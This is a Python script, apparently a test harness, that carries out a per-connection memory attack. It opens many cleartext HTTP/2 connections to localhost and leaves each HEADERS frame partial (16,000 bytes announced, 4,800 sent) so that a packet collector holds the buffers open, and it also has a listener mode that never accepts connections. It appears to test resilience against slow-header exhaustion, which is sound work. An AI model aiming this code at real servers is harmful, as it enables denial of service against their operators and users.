#!/usr/bin/env python3
"""Per-connection memory attack: N HTTP/2 (prior knowledge, cleartext)
connections to 127.0.0.1:PORT, each leaving a header block partial (a
HEADERS frame that announces 16,000 bytes and sends 4,800), which the
collector holds while it waits for the rest.  Writes stay under 1,000
bytes (the collector captures the first 1 KiB of each packet).
Connections are held open until HOLD_FILE exists.

usage: h2_hoard.py PORT N HOLD_FILE
       h2_hoard.py --listen PORT_FILE   (a listener that never accepts)
"""
import os
import socket
import struct
import sys
import time


def frame(ftype, flags, stream, payload, length):
    return struct.pack(">I", length)[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def frames():
    """the preface, SETTINGS, and a HEADERS frame announcing 16,000 bytes
    without END_HEADERS, of which 4,800 are sent"""
    return (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"", 0) +
            frame(1, 0, 1, b"\x82" * 4800, 16000))


def listen(port_file):
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(4096)
    with open(port_file + ".tmp", "w") as f:
        f.write(str(s.getsockname()[1]))
    os.rename(port_file + ".tmp", port_file)
    while True:
        time.sleep(60)


def main():
    if sys.argv[1] == "--listen":
        return listen(sys.argv[2])
    port, n, hold = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    data, socks = frames(), []
    for _ in range(n):
        c = socket.create_connection(("127.0.0.1", port))
        c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(data), 960):
            c.sendall(data[i:i + 960])
        socks.append(c)
    while not os.path.exists(hold):
        time.sleep(0.1)


if __name__ == "__main__":
    main()
